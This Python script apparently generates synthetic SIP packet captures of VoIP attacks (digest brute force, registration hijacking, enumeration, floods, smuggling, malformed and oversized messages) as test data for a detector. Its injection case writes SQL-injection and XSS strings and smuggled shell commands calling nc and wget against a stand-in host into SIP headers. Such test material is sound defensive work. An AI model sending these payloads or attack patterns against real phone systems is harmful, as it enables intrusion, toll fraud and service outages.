#!/usr/bin/env python3
"""Writes the small captures of attacks that no packaged tool makes.

Usage: make_attacks.py DIRECTORY [NAME...]; the same arguments give the same bytes.
"""

import hashlib

from kit import (ATTACKER, PHONE, SDP_TYPE, SERVER, START_US, call_with, challenge, credentials,
                 exchange, request, response, run_maker, sdp)

ATTACKS = {}


def attack(function):
    ATTACKS[function.__name__.replace("_", "-")] = function
    return function


@attack
def nonce_unknown(capture):
    for i in range(5):
        exchange(capture, request("REGISTER", i, lines=[credentials("100", f"forged{i}", i + 1)]),
                 401, challenge(f"right{i}"))
        capture.wait(20)


@attack
def nonce_reuse(capture):
    for i in range(4):
        exchange(capture, request("REGISTER", i, user=f"10{i}", lines=[credentials(f"10{i}", "stolen", i + 1, 1)]), 403)
        capture.wait(1)


@attack
def digest_downgrade(capture):
    for i, algorithm in enumerate(("SHA-256", "SHA-256", "MD5")):
        exchange(capture, request("REGISTER", i, src=PHONE), 401, challenge(f"n{i}", algorithm), src=PHONE)
        capture.wait(60)


@attack
def digest_leak(capture):
    """A stranger calls a phone; when it hangs up he asks it for its password's digest."""
    for i in range(2):
        call = f"lure-{i}@example.net"
        invite = call_with(i, sdp(), call=call)
        exchange(capture, invite, 200, "Contact: <sip:200@192.0.2.20>")
        capture.udp(ATTACKER, SERVER, request("ACK", i, call=call, to_tag=";tag=srv"))
        capture.wait(3)
        common = {"src": SERVER, "call": call, "user": "200", "to": "100", "to_tag": f";tag=tag{i}"}
        exchange(capture, request("BYE", 10 + i, **common), 407, challenge("lure").replace("WWW", "Proxy"), src=SERVER, dst=ATTACKER)
        answer = credentials("200", "lure", 7 + i).replace("Auth", "Proxy-Auth")
        exchange(capture, request("BYE", 20 + i, cseq=2, lines=[answer], **common), 200, src=SERVER, dst=ATTACKER)
        capture.wait(2)


@attack
def auth_distributed(capture):
    for i in range(24):
        source = f"198.51.100.{10 + i % 6}"
        exchange(capture, request("REGISTER", i, src=source, user="700", lines=[credentials("700", f"n{i}", i + 1)]),
                 403, src=source)
        capture.wait(12)


@attack
def auth_between(capture):
    """Guesses between the successes of an account that the attacker has."""
    for i in range(12):
        own = i % 4 == 3
        user = "900" if own else "100"
        exchange(capture, request("REGISTER", 2 * i, user=user, to=user), 401, challenge(f"b{i}"))
        exchange(capture, request("REGISTER", 2 * i + 1, user=user, to=user, lines=[credentials(user, f"b{i}", i + 1)]), 200 if own else 403)
        capture.wait(2)


@attack
def auth_spray(capture):
    for i in range(14):
        exchange(capture, request("REGISTER", i, user=f"3{i:02d}", lines=[credentials(f"3{i:02d}", f"n{i}", 7)]), 403)
        capture.wait(15)


@attack
def auth_cracked(capture):
    for i in range(8):
        capture.udp(SERVER, ATTACKER, response(request("REGISTER", 90 + i), 401, challenge(f"n{i}")))
        status = 200 if i == 7 else 403
        exchange(capture, request("REGISTER", i, lines=[credentials("100", f"n{i}", i + 1)]), status)
        capture.wait(11)


def answer(user, password, nonce, algorithm):
    """Right credentials: MD5 without qop (RFC 2069), SHA-256 with it (RFC 7616)."""
    def made(text):
        return hashlib.new("md5" if algorithm == "MD5" else "sha256", text.encode()).hexdigest()
    first, second = made(f"{user}:example.net:{password}"), made("REGISTER:sip:example.net")
    count = "" if algorithm == "MD5" else ":00000001:c0ffee:auth"
    more = "" if algorithm == "MD5" else ', qop=auth, nc=00000001, cnonce="c0ffee"'
    return (f'Authorization: Digest username="{user}", realm="example.net", nonce="{nonce}", uri="sip:example.net", '
            f'response="{made(f"{first}:{nonce}{count}:{second}")}", algorithm={algorithm}{more}')


@attack
def weak_password(capture):
    """Two accounts with trivial passwords are accepted; between them one is refused."""
    rows = (("100", "1234", "MD5", 200), ("102", "1234", "MD5", 403), ("101", "letmein", "SHA-256", 200))
    for i, (user, password, algorithm, status) in enumerate(rows):
        source = f"192.0.2.{90 + i}"
        exchange(capture, request("REGISTER", 2 * i, src=source, user=user, to=user, call=f"w{i}"), 401, challenge(f"w{i}", algorithm), src=source)
        message = request("REGISTER", 2 * i + 1, src=source, user=user, to=user, call=f"w{i}", cseq=2,
                          lines=[answer(user, password, f"w{i}", algorithm)])
        exchange(capture, message, status, src=source)
        capture.wait(2)


@attack
def secret_in_clear(capture):
    key = "a=crypto:1 AES_CM_128_HMAC_SHA1_80 inline:MTIzNDU2Nzg5MDEyMzQ1Njc4OTAxMjM0NTY3ODkw\r\n"
    exchange(capture, call_with(1, sdp(more=key)), 403)
    capture.wait(5)
    exchange(capture, request("REGISTER", 2, lines=["Authorization: Basic MTAwOnNlY3JldA=="]), 403)


@attack
def registration_takeover(capture):
    """A stranger adds a binding with another device, then others wipe or multiply them."""
    old, new = ["User-Agent: Deskphone 4", "Expires: 3600"], ["User-Agent: Softclient 9", "Expires: 3600"]
    def register(number, src, lines, contact):
        message = request("REGISTER", number, src=src, to="100", lines=lines, contact=contact)
        capture.udp(src, SERVER, message)
        bindings = [] if contact == "*" else [f"Contact: {contact};expires=3600"]
        capture.udp(SERVER, src, response(message, 200, *bindings))
        capture.wait(5)
    register(1, PHONE, old, f"<sip:100@{PHONE}:5060>")
    register(2, ATTACKER, new, "<sip:100@203.0.113.99:5060>")
    register(3, "198.51.100.67", ["Expires: 0"], "*")


@attack
def registration_abroad(capture):
    """A phone registers at home; minutes later somebody does so in its name from elsewhere."""
    for i, src in enumerate(("192.0.2.10", "192.0.2.10", "198.51.100.9")):
        message = request("REGISTER", i, src=src, to="100", contact=f"<sip:100@{src}:5060>", lines=["User-Agent: Deskphone 4", "Expires: 3600"])
        exchange(capture, message, 200, f"Contact: <sip:100@{src}:5060>;expires=3600", src=src)
        capture.wait(200)


@attack
def registration_many(capture):
    contacts = []
    for i in range(13):
        contacts.append(f"Contact: <sip:100@{PHONE}:{6000 + i}>;expires=3600")
        message = request("REGISTER", i, src=PHONE, to="100", call="reg@example.net", cseq=i + 1,
                          contact=f"<sip:100@{PHONE}:{6000 + i}>", lines=["Expires: 3600"])
        capture.udp(PHONE, SERVER, message)
        capture.udp(SERVER, PHONE, response(message, 200, *contacts))
        capture.wait(1)


@attack
def registration_flap(capture):
    contact = f"<sip:100@{PHONE}:5060>"
    for i in range(24):
        expires = 0 if i % 2 else 3600
        message = request("REGISTER", i, src=PHONE, to="100", call="reg@example.net", cseq=i + 1,
                          contact=contact, lines=[f"Expires: {expires}"])
        capture.udp(PHONE, SERVER, message)
        capture.udp(SERVER, PHONE, response(message, 200, *([f"Contact: {contact};expires=3600"] if expires else [])))
        capture.wait(10)


@attack
def registration_short(capture):
    """A device asks for seconds and is given them, again and again."""
    contact = f"<sip:100@{PHONE}:5060>"
    for i in range(14):
        exchange(capture, request("REGISTER", i, src=PHONE, to="100", call="reg@example.net", cseq=i + 1, contact=contact,
                                  lines=["Expires: 5"]), 200, f"Contact: {contact};expires=5", src=PHONE)
        capture.wait(4)


@attack
def registration_storm(capture):
    for minute, count in enumerate((3, 3, 3, 3, 260)):
        capture.now_us = START_US + minute * 60_000_000
        for i in range(count):
            source = f"10.1.{i // 250}.{i % 250 + 1}"
            exchange(capture, request("REGISTER", minute * 1000 + i, src=source, user=str(i), to=str(i)), 200, src=source)
            capture.wait(0.15)


@attack
def sweep_servers(capture):
    for i in range(24):
        capture.udp(ATTACKER, f"192.0.2.{100 + i}", request("OPTIONS", i))
        capture.wait(0.5)


@attack
def sweep_ports(capture):
    for i in range(12):
        capture.udp(ATTACKER, SERVER, request("OPTIONS", i), (5060, 5060 + i))
        capture.wait(0.5)


@attack
def empty_probes(capture):
    """What port scanners send to see who answers: nothing, or a method alone."""
    for i, probe in enumerate((b"", b"OPTIONS", b"OPTIONS\r\n\r\n")):
        source = f"198.51.100.{80 + i}"
        for port in (5060, 5061):
            capture.udp(source, SERVER, probe, (40000, port))
        capture.wait(2)


@attack
def enumeration_slow(capture):
    for i in range(24):
        exchange(capture, request("REGISTER", i, user=str(800 + i), to=str(800 + i)), 404)
        capture.wait(8)


@attack
def invite_internal(capture):
    for i in range(12):
        exchange(capture, request("INVITE", i, to=str(100 + i), uri=f"sip:{100 + i}@{SERVER}"), 404)
        capture.wait(8)


@attack
def decoys(capture):
    """Two sources, one of which knows a name that nobody uses, the other an address."""
    exchange(capture, request("REGISTER", 1, user="9999", to="9999"), 401, challenge("decoy"))
    capture.udp("198.51.100.67", "192.0.2.250", request("OPTIONS", 2, src="198.51.100.67"))


@attack
def enumeration_distributed(capture):
    for i in range(60):
        source = f"198.51.100.{10 + i % 8}"
        exchange(capture, request("REGISTER", i, src=source, user=str(800 + i), to=str(800 + i)), 404, src=source)
        capture.wait(5)


@attack
def method_probe(capture):
    methods = "OPTIONS REGISTER INVITE MESSAGE SUBSCRIBE PUBLISH INFO REFER UPDATE NOTIFY PRACK SERVICE".split()
    for i, method in enumerate(methods):
        exchange(capture, request(method, i), 405)
        capture.wait(0.2)


@attack
def dialplan_probe(capture):
    for i, prefix in enumerate(("", "00", "9011", "000", "810", "+")):
        exchange(capture, request("INVITE", i, to=f"{prefix}972595551234", uri=f"sip:{prefix}972595551234@{SERVER}"), 404)
        capture.wait(3)


@attack
def flood_invite(capture):
    for i in range(200):
        capture.udp(ATTACKER, SERVER, request("INVITE", i))
        capture.wait(0.02)


@attack
def flood_known(capture):
    """A source that answers challenges, so that its address is real, asks too much."""
    exchange(capture, request("REGISTER", 0), 401, challenge("known"))
    for i in range(60):
        exchange(capture, request("SUBSCRIBE", 10 + i, lines=[credentials("100", "known", i + 1, i + 1)]), 200)
        capture.wait(0.04)


@attack
def flood_halfopen(capture):
    """Calls that are answered and never acknowledged, from a few hosts of one network."""
    for i in range(30):
        source = f"198.51.100.{60 + i % 4}"
        exchange(capture, call_with(i, sdp(source), src=source), 200, f"Contact: <sip:200@{SERVER}>", src=source)
        capture.wait(1.2)
    capture.wait(15)
    exchange(capture, request("OPTIONS", 99, src=PHONE), 200, src=PHONE)


@attack
def flood_message(capture):
    for i in range(40):
        exchange(capture, request("MESSAGE", i, to=str(200 + i % 3)), 202)
        capture.wait(0.5)


@attack
def flood_distributed(capture):
    for i in range(700):
        source = f"198.51.{100 + i % 80 // 40}.{10 + i % 40}"
        capture.udp(source, SERVER, request("INVITE", i, src=source))
        capture.wait(0.005)


@attack
def sip_loop(capture):
    """One server hands a request to itself until Max-Forwards is used up."""
    for i in range(6):
        capture.udp(SERVER, SERVER, request("INVITE", 1, hops=70 - i, branch=f"z9hG4bKloop{i}"), (5060, 5060))
    for i in range(4):
        exchange(capture, request("INVITE", 2 + i, call="round@example.net", cseq=2 + i), 482)


@attack
def sip_reflection(capture):
    for i in range(600):
        message = request("OPTIONS", i, src="203.0.113.5")
        capture.udp("203.0.113.5", SERVER, message)
        capture.udp(SERVER, "203.0.113.5", response(message, 200, *(f"X-Feature-{n}: {'x' * 60}" for n in range(32))))
        capture.wait(0.005)


@attack
def stream_abuse(capture):
    for i in range(30):
        capture.tcp(ATTACKER, SERVER, 20000 + i, request("OPTIONS", i, transport="TCP"))
        capture.wait(0.1)


@attack
def stream_slow(capture):
    """A request over TCP of which a header line comes every four seconds."""
    lines = request("REGISTER", 1, transport="TCP").split(b"\r\n")
    capture.stream(ATTACKER, SERVER, 21000, [line + b"\r\n" for line in lines[:7]], 4)


@attack
def stream_length(capture):
    """A request over TCP that claims a body of a megabyte."""
    capture.tcp(ATTACKER, SERVER, 21001, request("MESSAGE", 1, transport="TCP").replace(b"Content-Length: 0", b"Content-Length: 1000000"))


def web_post(host, length):
    return (f"POST / HTTP/1.1\r\nHost: {host}:5060\r\nContent-Type: multipart/form-data\r\n"
            f"Content-Length: {length}\r\n\r\n").encode()


@attack
def slipstream(capture):
    """A web page has a browser send a form whose second segment begins as a phone's REGISTER."""
    hidden = request("REGISTER", 1, src=PHONE, contact=f"<sip:x@{PHONE}:445>", transport="TCP")
    filling = b"-" * 1200
    capture.stream(PHONE, SERVER, 21002, [web_post("sip.example", 4000) + filling, hidden, filling], 0.1)


@attack
def policy_storm(capture):
    """Four hundred calls within two seconds."""
    for i in range(400):
        capture.udp(ATTACKER, SERVER, request("INVITE", i))
        capture.wait(0.005)


@attack
def policy_phone(capture):
    """A phone that is registered sends more of everything than any phone does."""
    contact = f"<sip:100@{PHONE}:5060>"
    message = request("REGISTER", 0, src=PHONE, to="100", contact=contact, lines=["User-Agent: Testphone 1", "Expires: 3600"])
    exchange(capture, message, 401, challenge("n"), src=PHONE)
    message = request("REGISTER", 1, src=PHONE, to="100", contact=contact,
                      lines=[credentials("100", "n", 1, 1), "User-Agent: Testphone 1", "Expires: 3600"])
    exchange(capture, message, 200, f"Contact: {contact};expires=3600", src=PHONE)
    for i in range(40):
        exchange(capture, request("MESSAGE", 100 + i, src=PHONE, to="300"), 200, src=PHONE)
        exchange(capture, request("INVITE", 200 + i, src=PHONE, to="00881612345678"), 403, src=PHONE)
        exchange(capture, request("OPTIONS", 300 + i, src=PHONE), 200, src=PHONE)
        exchange(capture, request("INFO", 400 + i, src=PHONE), 200, src=PHONE)
        exchange(capture, request("SUBSCRIBE", 500 + i, src=PHONE), 200, src=PHONE)
        capture.wait(0.1)


@attack
def peer_crash(capture):
    for i in range(3):
        exchange(capture, request("OPTIONS", i, src=PHONE), 200, src=PHONE)
        capture.wait(5)
    broken = (b"INVITE sip:%s SIP/9.9\r\nVia: ;;;\r\nFrom: <<>>;tag=a;tag=b\r\nTo: \"x\r\n"
              b"Call-ID: \r\nCSeq: 99999999999 BYE\r\nContent-Length: -1\r\n\r\n")
    capture.udp(ATTACKER, SERVER, broken)
    for i in range(10, 20):
        capture.udp(PHONE, SERVER, request("OPTIONS", i, src=PHONE))
        capture.wait(6)
    capture.wait(60)
    capture.udp(PHONE, "192.0.2.30", request("OPTIONS", 99, src=PHONE))


@attack
def tdos(capture):
    for i in range(40):
        capture.udp(ATTACKER, SERVER, request("INVITE", i, user=f"4420{i:06d}", to="911"))
        capture.wait(5)


@attack
def malformed(capture):
    """Messages with one fault each, then descriptions with one fault each."""
    faults = [b"SIP/3.0", b"CSeq: 1 BYE", b"CSeq: x INVITE", b"Call-ID: \r\n", b"branch=old"]
    originals = [b"SIP/2.0\r\n", b"CSeq: 1 INVITE", b"CSeq: 1 INVITE", b"Call-ID: ", b"branch=z9hG4bK"]
    for i in range(20):
        k = i % len(faults)
        fault = faults[k] + (b"\r\n" if k == 0 else b"")
        capture.udp(ATTACKER, SERVER, request("INVITE", i).replace(originals[k], fault, 1))
        capture.wait(0.5)
    for i in range(5):
        capture.udp(ATTACKER, SERVER, call_with(50 + i, sdp(port=70000 + i, more="a=rtpmap:zero\r\n")))
        capture.wait(1)


@attack
def oversize(capture):
    capture.udp(ATTACKER, SERVER, request("INVITE", 1, call="c" * 400))
    capture.wait(120)
    capture.udp(ATTACKER, SERVER, request("X" * 40, 2))
    capture.wait(120)
    capture.udp(ATTACKER, SERVER, request("INVITE", 3, to="9" * 300))
    capture.wait(120)
    capture.udp(ATTACKER, SERVER, request("INVITE", 4, contact=f"<sip:{'1' * 280}@{ATTACKER}>"))


@attack
def smuggling(capture):
    inner = request("BYE", 2)
    capture.udp(ATTACKER, SERVER, request("INVITE", 1, lines=["Content-Length: 700"]))
    capture.wait(90)
    capture.udp(ATTACKER, SERVER, request("OPTIONS", 3) + inner)
    capture.wait(90)
    capture.udp(ATTACKER, SERVER, request("OPTIONS", 4).replace(b"\r\nTo:", b"\nTo:").replace(b"\r\nContact", b"\rContact"))


@attack
def header_evasion(capture):
    identity = ["P-Asserted-Identity: <sip:100@example.net>", "P-Asserted-Identity : <sip:1@example.net>",
                "P-Asserted-ldentity: <sip:2@example.net>", "P_Asserted_Identity: <sip:3@example.net>"]
    capture.udp(ATTACKER, SERVER, request("INVITE", 1, lines=identity))


@attack
def injection(capture):
    agents = ["Phone' or 1=1 --", "<script>alert(1)</script>", "x | nc 198.51.100.66 4444"]
    for i, agent in enumerate(agents):
        capture.udp(ATTACKER, SERVER, request("REGISTER", i, lines=[f"User-Agent: {agent}"]))
        capture.wait(90)
    others = ["a' union select secret--", "<svg onload=alert(1)>", "x; wget http://198.51.100.66/a"]
    for i, other in enumerate(others):
        source = f"198.51.100.{70 + i}"
        capture.udp(source, SERVER, request("INVITE", 10 + i, src=source, lines=[f"Subject: {other}"]))
        capture.wait(1)


@attack
def sdp_bomb(capture):
    bombs = ["m=audio 4000 RTP/AVP 0\r\n" * 25, "a=x:" + "y" * 1500 + "\r\n"]
    for i, bomb in enumerate(bombs):
        capture.udp(ATTACKER, SERVER, call_with(i, sdp(more=bomb)))
        capture.wait(90)


@attack
def sdp_loopback(capture):
    capture.udp(ATTACKER, SERVER, call_with(1, sdp(host="127.0.0.1")))
    capture.wait(90)
    capture.udp(ATTACKER, SERVER, call_with(2, sdp(host="224.0.0.9")))
    capture.wait(90)
    capture.udp("9.9.9.66", SERVER, call_with(3, sdp(host="240.1.2.3"), src="9.9.9.66"))


@attack
def sdp_third_party(capture):
    exchange(capture, call_with(1, sdp(host="9.9.9.200")), 486)


if __name__ == "__main__":
    run_maker(ATTACKS, __doc__)
